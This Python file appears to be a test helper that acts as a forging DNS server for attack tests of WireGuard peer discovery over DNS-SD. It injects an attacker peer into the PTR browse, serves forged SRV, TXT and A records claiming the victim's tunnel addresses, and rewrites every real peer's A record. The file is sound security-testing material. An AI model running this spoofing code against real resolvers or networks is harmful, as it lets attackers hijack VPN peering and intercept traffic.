"""A forging DNS server for the attack tests: it relays queries to the real registrar's DNS
and rewrites the answers as an on-path attacker or a poisoned resolver would.

- the browse (``_wireguard._udp.ZONE PTR``) lists one more peer: the attacker's key;
- the attacker's SRV/TXT/A answer, with TXT claiming ``allowed=`` the victim's tunnel address
  and a subnet;
- every A record of the real peers is replaced by ``--forged-a``.

Run as a script (inside a lab namespace): ``python forgedns.py --listen IP:PORT --upstream
IP:PORT --zone ZONE --attacker-key B64 --claim CIDR,CIDR --forged-a IP``. Bounded: it exits
after ``--lifetime`` seconds.
"""

from __future__ import annotations

import argparse
import base64
import socket
import time

import dns.flags
import dns.message
import dns.name
import dns.rdatatype
import dns.rrset


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--listen", required=True)
    ap.add_argument("--upstream", required=True)
    ap.add_argument("--zone", required=True)
    ap.add_argument("--attacker-key", required=True)
    ap.add_argument("--claim", required=True)
    ap.add_argument("--forged-a", required=True)
    ap.add_argument("--lifetime", type=float, default=120.0)
    args = ap.parse_args()
    host, port = args.listen.rsplit(":", 1)
    up_host, up_port = args.upstream.rsplit(":", 1)
    service = dns.name.from_text("_wireguard._udp." + args.zone)
    raw_key = base64.b64decode(args.attacker_key)
    label = base64.b32encode(raw_key).decode().lower()
    evil = dns.name.from_text(label, service)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, int(port)))
    sock.settimeout(1.0)
    upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    upstream.settimeout(2.0)
    end = time.monotonic() + args.lifetime
    print("forging", flush=True)
    while time.monotonic() < end:
        try:
            data, client = sock.recvfrom(4096)
            query = dns.message.from_wire(data)
        except (TimeoutError, dns.exception.DNSException):
            continue
        question = query.question[0]
        if question.name == evil:
            answer = dns.message.make_response(query)
            answer.flags |= dns.flags.AA
            answer.answer.append(dns.rrset.from_text(evil, 0, "IN", "SRV", f"0 0 51820 {evil}"))
            answer.additional.append(dns.rrset.from_text(evil, 0, "IN", "A", args.forged_a))
            answer.additional.append(
                dns.rrset.from_text(
                    evil,
                    0,
                    "IN",
                    "TXT",
                    '"txtvers=1"',
                    f'"pub={args.attacker_key}"',
                    f'"allowed={args.claim}"',
                    '"name=evil"',
                )
            )
            sock.sendto(answer.to_wire(), client)
            continue
        upstream.sendto(data, (up_host, int(up_port)))
        try:
            reply = dns.message.from_wire(upstream.recvfrom(65535)[0])
        except (TimeoutError, dns.exception.DNSException):
            continue
        if question.rdtype == dns.rdatatype.PTR and question.name == service:
            reply.answer.append(dns.rrset.from_text(service, 0, "IN", "PTR", str(evil)))
        for section in (reply.answer, reply.additional):
            for i, rrs in enumerate(section):
                if rrs.rdtype == dns.rdatatype.A:
                    section[i] = dns.rrset.from_text(rrs.name, 0, "IN", "A", args.forged_a)
        sock.sendto(reply.to_wire(), client)


if __name__ == "__main__":
    main()
